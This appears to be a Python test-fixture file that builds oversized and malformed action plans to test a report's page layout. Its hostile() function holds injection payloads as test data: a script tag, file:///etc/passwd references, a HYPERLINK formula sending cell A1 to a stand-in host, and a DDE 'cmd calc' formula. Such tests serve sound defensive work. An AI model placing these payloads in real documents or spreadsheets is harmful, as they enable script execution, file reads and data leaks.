"""Plans that are unkind to a paper's layout."""

from __future__ import annotations

from plans import columns
from tests.reports.factories import (
    GREEN,
    action,
    by,
    column,
    lead,
    led,
    plan,
    recommendation,
    section,
    step,
    timescale,
    update,
)
from tests.reports.shapes import DAYS

HEAD = lead("Head of Service")
COLUMNS = (
    column("Area", columns.RECOMMENDATION),
    column("Action", columns.ACTION),
    column("Outcome", columns.OUTCOME),
)


def words(stem: str, count: int) -> str:
    return " ".join(f"{stem}{at}" for at in range(count))


def cut_span():
    """A recommendation that spans many rows over several pages."""
    rows = (action(f"Row {at} {words('does', 20)}", outcome=words("gives", 25)) for at in range(40))
    return plan(section("Within 3 months", recommendation(words("area", 120), *rows, ref="1.")), columns=COLUMNS)


def cell_longer_than_a_page():
    rows = (action("Before"), action(words("long", 3000)), action("After"))
    return plan(section("A band", recommendation("An area", *rows, ref="1.")), columns=COLUMNS)


def recommendation_longer_than_a_page():
    rows = (action(f"Row {at}") for at in range(5))
    return plan(section("A band", recommendation(words("area", 2500), *rows, ref="1.")), columns=COLUMNS)


def hostile():
    """Markup, formulas, control characters, an address, and words that no column can hold."""
    rows = (
        action("<script>alert(1)</script><img src=file:///etc/passwd><link rel=attachment href=file:///etc/hostname>"),
        action('=HYPERLINK("http://host.invalid/?"&A1,"Click me")', outcome="+1+cmd|' /C calc'!A0"),
        action("@SUM(1)", outcome="-2+3", updates=(update("=1+1", GREEN),)),
        action("bell\x07null\x00tab\tvertical\x0bend\x0cpage\u2028line\ufeff", outcome="\uf0b7 from Word"),
        action("https://host.invalid/" + "a" * 700),
        action("_x000D_ #N/A"),
    )
    return plan(
        section("B" * 250, recommendation("</td></tr></table><h1>Out</h1>", *rows, ref="R&D 1")),
        section(""),
        section("Empty, with a recommendation", recommendation("Nothing to do here")),
        title="Plan <b>&amp; more</b>",
        columns=COLUMNS,
    )


def several_of_everything():
    """Steps with leads and dates of their own, several timescales, supporting leads, no titles."""
    steps = tuple(
        step(f"Step {at}", leads=(led(HEAD, printed=f"Officer {at}"),), timescales=(by(f"Date {at}", DAYS[at]),))
        for at in range(4)
    )
    made = action(
        "whole cell",
        lead_in="The work will include",
        steps=steps,
        assignments=(led(HEAD, role="supporting", printed="Partner agency", note="for training"),),
        timescales=(timescale("Ongoing", kind="ongoing"), by("Review in May", DAYS[4])),
    )
    return plan(section("", recommendation("An area", made)), leads=(HEAD,), columns=COLUMNS)
